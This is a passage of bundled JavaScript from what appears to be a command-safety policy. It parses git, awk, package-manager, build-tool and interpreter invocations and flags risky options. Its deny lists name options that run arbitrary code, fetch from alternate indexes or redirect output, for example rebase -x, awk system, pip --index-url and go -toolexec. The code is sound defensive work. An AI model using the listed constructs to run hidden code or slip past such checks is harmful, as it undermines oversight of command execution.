  return { at: i, cwds, named, paths, dangerous };
}
var LOG_LIKE = /* @__PURE__ */ new Set(["log", "show", "whatchanged", "shortlog"]);
var DIFF_LIKE = /* @__PURE__ */ new Set(["diff", "diff-tree", "diff-index", "diff-files", "range-diff"]);
function subcommandSpec(subcommand) {
  const paths = SUBCOMMAND_SPEC.pathOptions;
  if (subcommand === "grep")
    return {
      ...SUBCOMMAND_SPEC,
      shortArgs: "efABCmO",
      longFlags: ["--untracked", "--no-index", "--no-exclude-standard"],
      pathOptions: { ...paths, "-f": "read" }
    };
  if (subcommand === "ls-files") return { ...SUBCOMMAND_SPEC, pathOptions: { ...paths, "-X": "read" } };
  if (subcommand === "blame" || subcommand === "annotate")
    return { ...SUBCOMMAND_SPEC, shortArgs: "L", pathOptions: { ...paths, "-S": "read" } };
  if (LOG_LIKE.has(subcommand))
    return { ...SUBCOMMAND_SPEC, shortArgs: "nSGLI", pathOptions: { ...paths, "-O": "read" } };
  if (DIFF_LIKE.has(subcommand))
    return { ...SUBCOMMAND_SPEC, shortArgs: "SGI", pathOptions: { ...paths, "-O": "read" } };
  return SUBCOMMAND_SPEC;
}
function subcommandDangers(rest, scan, subcommand, sub) {
  const paths = [];
  const dangerous = [];
  for (let j = 0; j < rest.length; j++) {
    const word = rest[j];
    if (word.value === "--") break;
    for (const option of dangerousLong(word.value, SUBCOMMAND_DANGEROUS_PREFIXES)) {
      flagOnce(dangerous, option, word.value);
      if (option === "--output") {
        const eq = word.value.indexOf("=");
        const target = eq === -1 ? rest[j + 1]?.value : word.value.slice(eq + 1);
        if (target !== void 0) paths.push(...pathUses("write", target, "operand", sub));
      }
    }
  }
  const has = (name) => scan.options.some((o) => o.name === name);
  if (subcommand === "grep" && has("-O")) flagOnce(dangerous, "-O", "-O");
  if (subcommand === "clone" && has("-c")) flagOnce(dangerous, "-c", "-c");
  if ((subcommand === "rebase" || subcommand === "difftool") && has("-x")) flagOnce(dangerous, "-x", "-x");
  if (subcommand === "submodule" && scan.operands.some((word) => word.value === "foreach"))
    flagOnce(dangerous, "foreach", "foreach");
  if (subcommand === "bisect" && scan.operands[0]?.value === "run") flagOnce(dangerous, "run", "run");
  return { at: 0, cwds: sub.cwds, paths, dangerous };
}
function rangeFiles(scan, sub) {
  return scan.options.flatMap((o) => {
    const file = o.name === "-L" ? /:([^:]+)$/.exec(o.value ?? "")?.[1] : void 0;
    return file === void 0 ? [] : pathUses("read", file, "operand", sub);
  });
}
var GREP_HINT = "name the directories to search, or search only what git tracks (git grep without --untracked or --no-index)";
var DIFF_HINT = "compare the files themselves, or directories that hold no secret-like files";
function readPaths(subcommand, scan, ctx, sub) {
  const patternGiven = scan.options.some((o) => o.name === "-e" || o.name === "-f" || o.name === "--regexp");
  const operands = subcommand === "grep" && !patternGiven ? scan.operands.slice(1) : scan.operands;
  const worktree = subcommand === "grep" ? hasOption(scan, "--untracked", "--no-index") : subcommand === "diff" && hasOption(scan, "--no-index");
  const tree = {
    reader: `git ${subcommand} ${subcommand === "diff" ? "--no-index" : "--untracked"}`,
    follow: true,
    hint: subcommand === "diff" ? DIFF_HINT : GREP_HINT
  };
  const paths = [];
  const direct = subcommand === "diff" || subcommand === "grep" ? operands : [...scan.afterDoubleDash];
  for (const use of operandsAs("read", direct, sub)) paths.push(worktree ? { ...use, tree } : use);
  if (worktree && subcommand === "grep" && operands.length === 0)
    paths.push(...cwdRead(sub).map((use) => ({ ...use, tree })));
  paths.push(...blobPaths(scan.operands, ctx, sub.cwds), ...rangeFiles(scan, sub));
  const pathspecs = pathspecReads(subcommand, operands, sub.cwds);
  for (const use of pathspecs.paths)
    if (!paths.some((p) => p.path === use.path && p.kind === use.kind)) paths.push(use);
  return { at: 0, cwds: sub.cwds, paths, dangerous: pathspecs.dangerous };
}
function writtenPaths(subcommand, scan, sub) {
  const has = (...names) => scan.options.some((o) => names.includes(o.name));
  let operands;
  switch (subcommand) {
    case "checkout":
      operands = scan.afterDoubleDash.size > 0 ? [...scan.afterDoubleDash] : scan.operands;
      break;
    case "restore":
      operands = has("--staged", "-S") && !has("--worktree", "-W") ? [] : scan.operands;
      break;
    case "rm":
      operands = has("--cached") ? [] : scan.operands;
      break;
    case "clean":
      operands = has("-n", "--dry-run") ? [] : scan.operands;
      if (operands.length === 0 && !has("-n", "--dry-run")) return replacedBelow(cwdRead(sub), subcommand);
      break;
    case "checkout-index":
      if (has("-a", "--all")) return replacedBelow(cwdRead(sub), subcommand);
      operands = scan.operands;
      break;
    case "mv":
      operands = scan.operands;
      break;
    default:
      return [];
  }
  return replacedBelow(operandsAs("write", operands, sub), subcommand);
}
function replacedBelow(uses, subcommand) {
  return uses.map((use) => ({
    ...use,
    kind: "write",
    replaces: { writer: `git ${subcommand}`, kind: "below" }
  }));
}
function readFindings(subcommand, scan, rest) {
  if (subcommand === "cat-file") return catFileFindings(scan, rest);
  if (subcommand === "config") return configQuery(rest).dangerous;
  return [];
}
function printsUrls(subcommand, rest) {
  if (subcommand === "remote") return remoteQuery(rest).printsUrls;
  return subcommand === "config" && configQuery(rest).printsUrls;
}
var gitProgram = (args, ctx) => {
  const global = readGlobalOptions(args, ctx);
  const { paths, dangerous } = global;
  const subcommand = args[global.at]?.value;
  if (subcommand === void 0) return { paths, dangerous, readOnly: dangerous.length === 0 };
  const repositoryDirs = subcommand === "version" || subcommand === "help" ? [] : [.../* @__PURE__ */ new Set([...global.cwds, ...global.named ?? []])];
  if (!GIT_COMMANDS.has(subcommand)) {
    dangerous.push(dangerousOption("git", "<alias>", subcommand));
    return { paths, dangerous, readOnly: false, repositoryDirs };
  }
  const rest = args.slice(global.at + 1);
  const spec = subcommandSpec(subcommand);
  const scan = scanArguments(rest, spec);
  const sub = { ...ctx, cwds: global.cwds };
  paths.push(...optionPaths(scan, spec, sub));
  for (const part of [
    subcommandDangers(rest, scan, subcommand, sub),
    readPaths(subcommand, scan, ctx, sub)
  ]) {
    paths.push(...part.paths);
    for (const found of part.dangerous)
      if (!dangerous.some((d) => d.option === found.option)) dangerous.push(found);
  }
  paths.push(...writtenPaths(subcommand, scan, sub));
  for (const found of readFindings(subcommand, scan, rest))
    if (!dangerous.some((d) => d.option === found.option)) dangerous.push(found);
  const readOnly = subcommandReadOnly(subcommand, scan, rest);
  return {
    paths,
    dangerous,
    readOnly,
    repositoryDirs,
    ...printsUrls(subcommand, rest) ? { printsUrls: true } : {}
  };
};

// src/policy/shell/programs/awk-program.ts
var REFUSED2 = /* @__PURE__ */ new Set(["system", "getline", "extension", "ARGV", "ARGC"]);
var KEYWORDS = /* @__PURE__ */ new Set([
  "BEGIN",
  "END",
  "if",
  "else",
  "while",
  "for",
  "do",
  "break",
  "continue",
  "next",
  "nextfile",
  "exit",
  "return",
  "delete",
  "in",
  "print",
  "printf",
  "function",
  "func"
]);
var AwkReader = class {
  constructor(text2) {
    this.text = text2;
  }
  text;
  i = 0;
  depth = 0;
  /** The parenthesis depth at which the current print statement started, or -1 outside one. */
  printDepth = -1;
  previous = "operator";
  /** The first construct that makes the program unacceptable, or undefined. */
  read() {
    const text2 = this.text;
    while (this.i < text2.length) {
      const c = text2[this.i];
      const found = this.step(c);
      if (found !== void 0) return found;
    }
    return void 0;
  }
  step(c) {
    if (c === "\n" || c === ";" || c === "{" || c === "}") {
      this.printDepth = -1;
      this.previous = "operator";
      this.i++;
      return void 0;
    }
    if (c === " " || c === "	" || c === "\r") return this.skip(1);
    if (c === "\\" && this.text[this.i + 1] === "\n") return this.skip(2);
    if (c === "#") return this.skipTo("\n");
    if (c === '"') return this.literal('"', "a string");
    if (c === "/" && this.previous === "operator") return this.literal("/", "a regular expression");
    if (/[A-Za-z_]/.test(c)) return this.identifier();
    if (/[0-9.]/.test(c)) return this.number();
    return this.punctuation(c);
  }
  skip(n) {
    this.i += n;
    return void 0;
  }
  skipTo(end) {
    const at = this.text.indexOf(end, this.i);
    this.i = at === -1 ? this.text.length : at;
    return void 0;
  }
  /** A string or regular expression: backslash escapes, and brackets in a regex (where / is literal). */
  literal(quote, what) {
    let bracket = false;
    for (let j = this.i + 1; j < this.text.length; j++) {
      const c = this.text[j];
      if (c === "\\") j++;
      else if (c === "\n") break;
      else if (quote === "/" && c === "[") bracket = true;
      else if (quote === "/" && c === "]") bracket = false;
      else if (c === quote && !bracket) {
        this.i = j + 1;
        this.previous = "operand";
        return void 0;
      }
    }
    return `${what} that does not end`;
  }
  identifier() {
    const name = /^[A-Za-z_][A-Za-z0-9_]*/.exec(this.text.slice(this.i))?.[0];
    this.i += name.length;
    if (REFUSED2.has(name)) return name;
    if (name === "print" || name === "printf") this.printDepth = this.depth;
    this.previous = KEYWORDS.has(name) ? "operator" : "operand";
    return void 0;
  }
  number() {
    const digits = /^[0-9.]+(?:[eE][+-]?[0-9]+)?/.exec(this.text.slice(this.i))?.[0] ?? ".";
    this.i += digits.length;
    this.previous = "operand";
    return void 0;
  }
  punctuation(c) {
    const next = this.text[this.i + 1];
    this.i++;
    if (c === "@") return "@ (a gawk directive or indirect call)";
    if (c === "|") {
      if (next !== "|") return "| (a pipe to or from a command)";
      this.i++;
    } else if (c === ">" && this.printDepth !== -1 && this.depth === this.printDepth)
      return "> in a print statement (output to a file or command)";
    else if (c === "(" || c === "[") this.depth++;
    else if (c === ")" || c === "]") this.depth = Math.max(0, this.depth - 1);
    this.previous = c === ")" || c === "]" || c === "$" ? "operand" : "operator";
    if ((c === "+" || c === "-") && next === c) {
      this.i++;
      this.previous = "operand";
    }
    return void 0;
  }
};
function awkProgramProblem(text2) {
  return new AwkReader(text2).read();
}

// src/policy/shell/programs/runner-specs.ts
var set = (...names) => new Set(names);
var words = (text2) => new Set(text2.trim().split(/\s+/));
var NPM_SAFE = words(
  "-s --silent -q --quiet -d -dd -ddd --loglevel --if-present --ignore-scripts --color --no-color --json --parseable -p --long -l --foreground-scripts --no-audit --audit --no-fund --fund --prefer-offline --prefer-online --offline --dry-run --verbose --version -v --help -h --depth --all -a --omit --include --production --save --no-save --save-dev -D --save-exact -E --save-optional -O --save-prod -P --legacy-peer-deps --strict-peer-deps --no-package-lock --package-lock-only --yes -y --no --progress --no-progress --audit-level --no-optional --timing --no-update-notifier"
);
var NPM_VALUES = words("--loglevel --omit --include --depth --audit-level -w --workspace");
var NPM_DANGEROUS = words("-w --workspace --workspaces --ws -g --global -C --prefix");
var PACKAGE_COMMANDS = words(
  "install i add a remove rm update up upgrade ci link unlink outdated audit why list ls pack publish init config cache store prune dedupe rebuild import fetch patch pm"
);
var RUN_COMMANDS = words("run run-script exec dlx x");
function beforeScript(operands) {
  const first = operands[0];
  if (first === void 0) return true;
  if (RUN_COMMANDS.has(first)) return operands.length < 2;
  return PACKAGE_COMMANDS.has(first);
}
var PNPM_SAFE = set(
  ...NPM_SAFE,
  ...words(
    "--frozen-lockfile --no-frozen-lockfile --prefer-frozen-lockfile --reporter --aggregate-output --stream --parallel --no-bail --bail --sort --no-sort --reverse --resume-from --workspace-concurrency --report-summary --shamefully-hoist --fix-lockfile --no-optional --dev --prod"
  )
);
var PNPM_DANGEROUS = words(
  "-C --dir --filter -F --filter-prod -r --recursive -w --workspace-root -g --global --shell-emulator"
);
var YARN_SAFE = set(
  ...NPM_SAFE,
  ...words(
    "--frozen-lockfile --immutable --immutable-cache --check-cache --non-interactive --no-progress --pure-lockfile --prefer-offline --network-timeout --inline-builds --mode --top-level"
  )
);
var YARN_DANGEROUS = words(
  "--cwd --use-yarnrc --modules-folder --global-folder --cache-folder --preferred-cache-folder --registry -g --global"
);
var BUN_SAFE = words(
  "-s --silent --if-present --version -v --help -h --watch --coverage --bail --timeout -t --test-name-pattern --only --todo --rerun-each -u --update-snapshots --frozen-lockfile --production --dry-run --no-save --verbose --ignore-scripts"
);
var BUN_DANGEROUS = words(
  "--cwd -r --preload --require --import -c --config --env-file --shell --tsconfig-override --define -d --loader -l"
);
var NPM = {
  family: "npm",
  takesValue: NPM_VALUES,
  dangerous: NPM_DANGEROUS,
  safe: NPM_SAFE,
  ownsOptions: () => true,
  // `npm exec -- vitest run`, `npm x vitest`: the command after `exec`.
  commandAt: (operands) => operands[0] === "exec" || operands[0] === "x" ? 1 : void 0
};
var NPX = {
  family: "npx",
  takesValue: set(...NPM_VALUES, ...words("-p --package -c --call")),
  dangerous: set(...NPM_DANGEROUS, ...words("-p --package -c --call --shell")),
  safe: set(...NPM_SAFE, ...words("--no-install --ignore-existing")),
  ownsOptions: (operands) => operands.length === 0,
  commandAt: () => 0
};
var PNPM = {
  family: "pnpm",
  takesValue: set(...NPM_VALUES, ...words("-C --dir --filter -F --filter-prod --reporter")),
  dangerous: PNPM_DANGEROUS,
  safe: PNPM_SAFE,
  ownsOptions: beforeScript,
  commandAt: (operands) => ["exec", "dlx"].includes(operands[0] ?? "") ? 1 : void 0
};
var YARN = {
  family: "yarn",
  takesValue: words("--cwd --use-yarnrc --modules-folder --cache-folder --registry --mode"),
  dangerous: YARN_DANGEROUS,
  safe: YARN_SAFE,
  ownsOptions: beforeScript,
  commandAt: (operands) => ["exec", "dlx"].includes(operands[0] ?? "") ? 1 : void 0
};
var BUN = {
  family: "bun",
  takesValue: words("--cwd -r --preload -c --config --env-file --shell --timeout"),
  dangerous: BUN_DANGEROUS,
  safe: BUN_SAFE,
  // `bun test` is bun's own test runner: its options are bun's.
  ownsOptions: (operands) => operands[0] === "test" || beforeScript(operands),
  commandAt: (operands) => operands[0] === "x" ? 1 : void 0
};
var MAKE = {
  family: "make",
  // -j and -l take an optional value: not listed, so a following option is still read as one.
  takesValue: words("-f --file --makefile -C --directory -I --include-dir --eval -E -o -W"),
  dangerous: words(
    "-f --file --makefile -C --directory -I --include-dir --eval -E -e --environment-overrides"
  ),
  clusters: true,
  ownsOptions: () => true
};
var CARGO = {
  family: "cargo",
  takesValue: words(
    "--config -Z --manifest-path -C --target-dir --lockfile-path --artifact-dir -p --package -j --features -F --target --bin --test --example --bench --profile --color --message-format"
  ),
  dangerous: words("--config -Z --manifest-path -C --target-dir --lockfile-path --artifact-dir"),
  clusters: true,
  ownsOptions: () => true
};
var PIP_DANGEROUS = words(
  "-i --index-url --extra-index-url -f --find-links --trusted-host --proxy --cert --client-cert -t --target --prefix --root --src --log --log-file --cache-dir -C --config-settings --global-option --build-option --install-option --report"
);
var PIP = {
  family: "pip",
  takesValue: set(...PIP_DANGEROUS, ...words("-r --requirement -c --constraint -e --editable")),
  dangerous: PIP_DANGEROUS,
  clusters: true,
  ownsOptions: () => true
};
var UV = {
  family: "uv",
  takesValue: words(
    "--index-url --extra-index-url --index --default-index -i --find-links -f --config-file --directory --project --python -p --with --with-requirements --with-editable --env-file --cache-dir --color --package --extra --group"
  ),
  dangerous: words(
    "--index-url --extra-index-url --index --default-index -i --find-links -f --config-file --directory --project --python -p --with --with-requirements --with-editable --env-file --cache-dir"
  ),
  clusters: true,
  ownsOptions: (operands) => operands[0] !== "run" || operands.length < 2,
  commandAt: (operands) => operands[0] === "run" ? 1 : void 0
};
var POETRY = {
  family: "poetry",
  takesValue: words("-C --directory -P --project"),
  dangerous: words("-C --directory -P --project"),
  clusters: true,
  ownsOptions: (operands) => operands[0] !== "run" || operands.length < 2,
  commandAt: (operands) => operands[0] === "run" ? 1 : void 0
};
var PYTEST_DANGEROUS = words(
  "-p -c --config-file --rootdir --confcutdir -o --override-ini --basetemp --junitxml --junit-xml --debug --pastebin --log-file --report-log --resultlog --cache-dir"
);
var PYTEST = {
  family: "pytest",
  takesValue: set(
    ...PYTEST_DANGEROUS,
    ...words("-k -m --maxfail --tb --durations -n --ignore --deselect --cov --import-mode")
  ),
  dangerous: PYTEST_DANGEROUS,
  clusters: true,
  ownsOptions: () => true
};
var GO_DANGEROUS = [
  "-exec",
  "-toolexec",
  "-C",
  "-modfile",
  "-overlay",
  "-ldflags",
  "-gcflags",
  "-asmflags",
  "-gccgoflags",
  "-compiler",
  "-o",
  "-coverprofile",
  "-cpuprofile",
  "-memprofile",
  "-blockprofile",
  "-mutexprofile",
  "-trace",
  "-outputdir",
  "-pgo",
  "-pkgdir"
];
var GO = {
  family: "go",
  // Go's flag package takes `-x` and `--x` alike: both spellings are listed.
  takesValue: set(
    ...GO_DANGEROUS,
    ...GO_DANGEROUS.map((o) => `-${o}`),
    "-run",
    "-count",
    "-timeout",
    "-tags",
    "-p",
    "-bench",
    "-cover",
    "-covermode",
    "-coverpkg",
    "-mod",
    "-parallel",
    "-shuffle",
    "-skip"
  ),
  dangerous: set(...GO_DANGEROUS, ...GO_DANGEROUS.map((o) => `-${o}`)),
  // `go run prog args…`: the program's arguments follow the package; `go test … -args …` likewise.
  ownsOptions: (operands) => operands[0] !== "run" || operands.length < 2
};
var GRADLE_DANGEROUS = words(
  "-I --init-script -p --project-dir -b --build-file -c --settings-file -g --gradle-user-home --include-build -D --system-prop -P --project-prop"
);
var GRADLE = {
  family: "gradle",
  takesValue: words(
    "-I --init-script -p --project-dir -b --build-file -c --settings-file -g --gradle-user-home --include-build -x --exclude-task --max-workers --console --warning-mode"
  ),
  dangerous: GRADLE_DANGEROUS,
  dangerousPrefixes: ["-D", "-P"],
  ownsOptions: () => true
};
var MVN = {
  family: "mvn",
  takesValue: words(
    "-f --file -s --settings -gs --global-settings -t --toolchains -gt --global-toolchains -pl --projects -rf --resume-from -T --threads -P --activate-profiles -l --log-file"
  ),
  dangerous: words(
    "-f --file -s --settings -gs --global-settings -t --toolchains -gt --global-toolchains -D --define -l --log-file"
  ),
  dangerousPrefixes: ["-D"],
  ownsOptions: () => true
};
var RUNNERS = lookupTable({
  npm: NPM,
  npx: NPX,
  pnpm: PNPM,
  yarn: YARN,
  bun: BUN,
  make: MAKE,
  gmake: MAKE,
  cargo: CARGO,
  pip: PIP,
  pip3: PIP,
  uv: UV,
  poetry: POETRY,
  pytest: PYTEST,
  "py.test": PYTEST,
  go: GO,
  gradle: GRADLE,
  mvn: MVN
});
var MODULE_RUNNERS = lookupTable({ pytest: PYTEST, pip: PIP });

// src/policy/shell/programs/runners.ts
function readCluster(spec, token) {
  const flagged = [];
  for (let j = 1; j < token.length; j++) {
    const name = `-${token[j]}`;
    if (spec.dangerous.has(name)) flagged.push(dangerousOption(spec.family, name, token));
    if (spec.takesValue.has(name)) return { flagged, takesNext: j === token.length - 1 };
  }
  return { flagged, takesNext: false };
}
function readOption(spec, token) {
  const name = token.split("=")[0];
  const takesNext = !token.includes("=") && spec.takesValue.has(name);
  if (spec.dangerous.has(name)) return { flagged: [dangerousOption(spec.family, name, token)], takesNext };
  const prefix = spec.dangerousPrefixes?.find((p) => token.startsWith(p));
  if (prefix !== void 0) return { flagged: [dangerousOption(spec.family, prefix, token)], takesNext };
  if (spec.safe !== void 0)
    return spec.safe.has(name) ? { flagged: [], takesNext } : { flagged: [dangerousOption(spec.family, `<${spec.family} option>`, token)], takesNext };
  if (spec.clusters === true && !token.startsWith("--")) return readCluster(spec, token);
  return { flagged: [], takesNext };
}
function scanRunner(spec, args) {
  const dangerous = [];
  const operands = [];
  let commandStart;
  for (let i = 0; i < args.length; i++) {
    const word = args[i];
    const token = word.value;
    if (token === "--") break;
    if (!token.startsWith("-") || token === "-" || word.processSubstitution) {
      if (commandStart === void 0 && spec.commandAt?.(operands) === operands.length) commandStart = i;
      operands.push(token);
      if (!spec.ownsOptions(operands)) break;
      continue;
    }
    const option = readOption(spec, token);
    for (const found of option.flagged)
      if (!dangerous.some((d) => d.option === found.option)) dangerous.push(found);
    if (option.takesNext) i++;
  }
  return { dangerous, commandStart };
}
function runner(spec, inner) {
  return (args, ctx) => {
    const scan = scanRunner(spec, args);
    const paths = [];
    const dangerous = [...scan.dangerous];
    if (scan.commandStart !== void 0) {
      const command = args.slice(scan.commandStart);
      const analyzer = inner(command[0].value);
      const facts = analyzer?.(command.slice(1), ctx);
      if (facts !== void 0) {
        paths.push(...facts.paths);
        dangerous.push(...facts.dangerous);
      }
    }
    return { paths, dangerous, readOnly: false };
  };
}
function runnerPrograms(inner) {
  const programs = {};
  for (const [name, spec] of Object.entries(RUNNERS)) programs[name] = runner(spec, inner);
  const make = withVariables(programs["make"]);
  programs["make"] = make;
  programs["gmake"] = make;
  return programs;
}
function withVariables(make) {
  return (args, ctx) => {
    const facts = make(args, ctx);
    const end = args.findIndex((word) => word.value === "--");
    const assignment = (end === -1 ? args : args.slice(0, end)).find(
      (word) => !word.value.startsWith("-") && /^[A-Za-z_][A-Za-z0-9_]*[:+?!]?=/.test(word.value)
    );
    if (assignment === void 0) return facts;
    return {
      ...facts,
      dangerous: [...facts.dangerous, dangerousOption("make", "<variable>", assignment.value)]
    };
  };
}
function moduleRunner(module) {
  const spec = MODULE_RUNNERS[module];
  return spec === void 0 ? void 0 : runner(spec, () => void 0);
}

// src/policy/shell/programs/interpreters.ts
var PYTHON = {
  family: "python",
  inline: ["-c"],
  shortArgs: "cmWX",
  longArgs: [],
  module: ["-m"],
  noProgram: ["-V", "--version", "-h", "--help"]
};
var NODE = {
  family: "node",
  inline: ["-e", "--eval", "-p", "--print"],
  shortArgs: "eprC",
  longArgs: [
    "--eval",
    "--print",
    "--require",
    "--import",
    "--loader",
    "--experimental-loader",
    "--conditions",
    "--input-type",
    "--env-file",
    "--title",
    "--run"
  ],
  module: [],
  noProgram: ["-v", "--version", "-h", "--help", "--test", "--run"],
  readsFile: ["--env-file", "-r", "--require", "--import"]
};
var PERL = {
  family: "perl",
  inline: ["-e", "-E"],
  shortArgs: "eEIMm",
  longArgs: [],
  module: [],
  noProgram: ["-v", "-V", "-h"]
};
var RUBY = {
  family: "ruby",
  inline: ["-e"],
  shortArgs: "erICEF",
  longArgs: [],
  module: [],
  noProgram: ["-v", "--version", "-h", "--help"]
};
var PHP = {
  family: "php",
  inline: ["-r", "-B", "-R", "-E"],
  shortArgs: "rBREFdcfz",
  longArgs: [],
  module: [],
  noProgram: ["-v", "--version", "-h", "--help", "-m", "-i", "-l"]
};
var LUA = {
  family: "lua",
  inline: ["-e"],
  shortArgs: "el",
  longArgs: [],
  module: [],
  noProgram: ["-v"]
};
function readCall(spec, args, ctx) {
  const dangerous = [];
  const paths = [];
  let code2 = false;
  let noProgram = false;
  for (let i = 0; i < args.length; i++) {
    const word = args[i];
    const token = word.value;
    if (token === "-" || !token.startsWith("-") || word.processSubstitution) {
      if (code2 || noProgram) return { dangerous, paths, fromStdin: false };
      if (token === "-" || token === "/dev/stdin") return { dangerous, paths, fromStdin: true };
      paths.push(...operandPaths("read", word, ctx));
      return { dangerous, paths, fromStdin: false };
    }
    if (token === "--") {
      const script = args[i + 1];
      if (!code2 && script !== void 0) paths.push(...operandPaths("read", script, ctx));
      return {
        dangerous,
        paths,
        fromStdin: !code2 && !noProgram && (script === void 0 || script.value === "-")
      };
    }
    const options = [];
    if (token.startsWith("--")) {
      const eq = token.indexOf("=");
      const name = eq === -1 ? token : token.slice(0, eq);
      let value = eq === -1 ? void 0 : token.slice(eq + 1);
      if (value === void 0 && spec.longArgs.includes(name)) value = args[++i]?.value;
      options.push({ name, value });
    } else {
      for (let j = 1; j < token.length; j++) {
        const name = `-${token[j]}`;
        if (spec.shortArgs.includes(token[j])) {
          let value = token.slice(j + 1);
          if (value === "") value = args[++i]?.value;
          options.push({ name, value });
          break;
        }
        options.push({ name, value: void 0 });
      }
    }
    for (const { name, value } of options) {
      if (spec.inline.includes(name)) {
        dangerous.push(dangerousOption(spec.family, name, token));
        code2 = true;
      }
      if (spec.module.includes(name)) return { dangerous, paths, fromStdin: false };
      if (spec.noProgram.includes(name)) noProgram = true;
      if (spec.readsFile?.includes(name) === true && value !== void 0)
        paths.push(...pathUses("read", value, "operand", ctx));
    }
  }
  return { dangerous, paths, fromStdin: !code2 && !noProgram };
}
function interpreter(spec) {
  return (args, ctx) => {
    const module = spec.module.includes("-m") ? moduleCall(args) : void 0;
    const inner = module === void 0 ? void 0 : moduleRunner(module.name)?.(module.args, ctx);
    const call = readCall(spec, args, ctx);
    return {
      paths: [...call.paths, ...inner?.paths ?? []],
      dangerous: [...call.dangerous, ...inner?.dangerous ?? []],
      readOnly: false
    };
  };
}
function moduleCall(args) {
  const first = args[0]?.value;
  if (first === "-m" && args[1] !== void 0) return { name: args[1].value, args: args.slice(2) };
  if (first?.startsWith("-m") === true && first.length > 2)
    return { name: first.slice(2), args: args.slice(1) };
  return void 0;
}
var AWK_VALUE = /* @__PURE__ */ new Set([
  "-F",
  "-v",
  "-f",
  "-e",
  "-i",
  "-l",
  "-E",
  "-W",
  "--field-separator",
  "--assign",
  "--file",
  "--source",
  "--include",
  "--load",
  "--exec"
]);
var AWK_OUTPUT = /^(?:-[opd]|--pretty-print|--profile|--dump-variables)(?:=?(.*))?$/s;
var AWK_HARMLESS = /* @__PURE__ */ new Set([
  "-F",
  "-v",
  "--field-separator",
  "--assign",
  "-P",
  "--posix",
  "-c",
  "--traditional",
  "-S",
  "--sandbox",
  "-b",
  "--characters-as-bytes",
  "-r",
  "--re-interval",
  "-N",
  "--use-lc-numeric"
]);
function readAwk(args, ctx) {
  const dangerous = [];
  const paths = [];
  let program = false;
  let fromStdin = false;
  let harmlessOptions = true;
  const texts = [];
  let i = 0;
  for (; i < args.length; i++) {
    const word = args[i];
    const token = word.value;
    if (token === "--") {
      i++;
      break;
    }
    if (!token.startsWith("-") || token === "-") break;
    const eq = token.indexOf("=");
    const name = token.startsWith("--") ? eq === -1 ? token : token.slice(0, eq) : token.slice(0, 2);
    let value = token.startsWith("--") ? eq === -1 ? void 0 : token.slice(eq + 1) : token.slice(2) || void 0;
    const output = AWK_OUTPUT.exec(token);
    if (output !== null) {
      const fallback = name === "-d" || name === "--dump-variables" ? "awkvars.out" : "awkprof.out";
      const file = output[1] === void 0 || output[1] === "" ? fallback : output[1];
      paths.push(...pathUses("write", file, "operand", ctx));
      continue;
    }
    if (!AWK_HARMLESS.has(name) && name !== "-e" && name !== "--source") harmlessOptions = false;
    const valueWord = AWK_VALUE.has(name) && value === void 0 ? args[++i] : void 0;
    if (valueWord !== void 0) value = valueWord.value;
    if (name === "-e" || name === "--source") {
      texts.push({ word: valueWord ?? { ...word, value: value ?? "" }, option: name });
      program = true;
    }
    if (name === "-f" || name === "--file" || name === "-E" || name === "--exec" || name === "-i" || name === "--include") {
      program = program || name !== "-i";
      if (value === "-" || value === "/dev/stdin") fromStdin = true;
      else if (value !== void 0) paths.push(...pathUses("read", value, "operand", ctx));
    }
  }
  const operands = args.slice(i);
  if (!program) {
    const text2 = operands.shift();
    if (text2 !== void 0) texts.push({ word: text2, option: "<program>" });
  }
  const acceptable = texts.length > 0 && harmlessOptions && paths.length === 0 && texts.every(({ word }) => !word.processSubstitution && awkProgramProblem(word.value) === void 0);
  if (!acceptable)
    for (const { word, option } of texts) dangerous.push(dangerousOption("awk", option, word.value));
  for (const word of operands) {
    if (!/^[A-Za-z_][A-Za-z0-9_]*=/.test(word.value)) paths.push(...operandPaths("read", word, ctx));
  }
  return { dangerous, paths, fromStdin, readOnly: acceptable };
}
var awkProgram = (args, ctx) => {
  const call = readAwk(args, ctx);
  return { paths: call.paths, dangerous: call.dangerous, readOnly: call.readOnly === true };
};
var SPECS = [
  [/^(?:python[0-9.]*|pypy[0-9.]*)$/, PYTHON],
  [/^(?:node|nodejs)$/, NODE],
  [/^perl[0-9.]*$/, PERL],
  [/^ruby[0-9.]*$/, RUBY],
  [/^php[0-9.]*$/, PHP],
  [/^lua[0-9.]*$/, LUA]
];
var AWKS = /^(?:awk|gawk|mawk|nawk)$/;
function interpreterFor(name) {
  if (AWKS.test(name)) return awkProgram;
  const spec = SPECS.find(([pattern]) => pattern.test(name))?.[1];
  return spec === void 0 ? void 0 : interpreter(spec);
}
function isInterpreter(name) {
  return SPECS.some(([pattern]) => pattern.test(name));
}
function programFromStdin(name, args, ctx) {
  if (AWKS.test(name)) return readAwk(args, ctx).fromStdin;
  const spec = SPECS.find(([pattern]) => pattern.test(name))?.[1];
  return spec !== void 0 && readCall(spec, args, ctx).fromStdin;
}

// src/policy/shell/programs/misc.ts
var FILE_TESTS = /* @__PURE__ */ new Set([
  "-a",
  "-b",
  "-c",
  "-d",
  "-e",
  "-f",
  "-g",
  "-h",
  "-k",
  "-p",
  "-r",
  "-s",
  "-u",
  "-w",
  "-x",
  "-G",
  "-L",
  "-N",
  "-O",
  "-S"
]);
var FILE_COMPARISONS = /* @__PURE__ */ new Set(["-nt", "-ot", "-ef"]);
var ARITHMETIC = /* @__PURE__ */ new Set(["-eq", "-ne", "-lt", "-le", "-gt", "-ge"]);
var testProgram = (args, ctx) => {
  const paths = [];
  args.forEach((word, i) => {
    const token = word.value;
    const next = args[i + 1];
    const previous = args[i - 1];
    if (token === "-v" || token === "-R")
      deny(
        `\`${token}\` in a test looks up a variable by a name that can hold an array subscript, which bash evaluates (running any command in it); compare values literally instead`
      );
    if (FILE_TESTS.has(token) && next !== void 0) paths.push(...operandPaths("read", next, ctx));
    if (FILE_COMPARISONS.has(token)) {
      for (const side of [previous, next])
        if (side !== void 0) paths.push(...operandPaths("read", side, ctx));
    }
    if (ARITHMETIC.has(token)) {
      for (const side of [previous, next])
        if (side !== void 0 && !/^[+-]?[0-9]+$/.test(side.value))
          deny(
            `\`${side.value} ${token}\` compares a value that is not a literal integer; bash evaluates it as arithmetic, which can run commands`
          );
    }
  });
  return { paths, dangerous: [], readOnly: true };
};
var bracketProgram = (args, ctx) => {
  if (args[args.length - 1]?.value !== "]") return { ...testProgram(args, ctx), readOnly: false };
  return testProgram(args.slice(0, -1), ctx);
};
var DATE = {
  shortArgs: "ds",
  longArgs: ["--date", "--set", "--rfc-3339", "--resolution"],
  pathOptions: { "-f": "read", "--file": "read", "-r": "read", "--reference": "read" }
};
var dateProgram = (args, ctx) => {
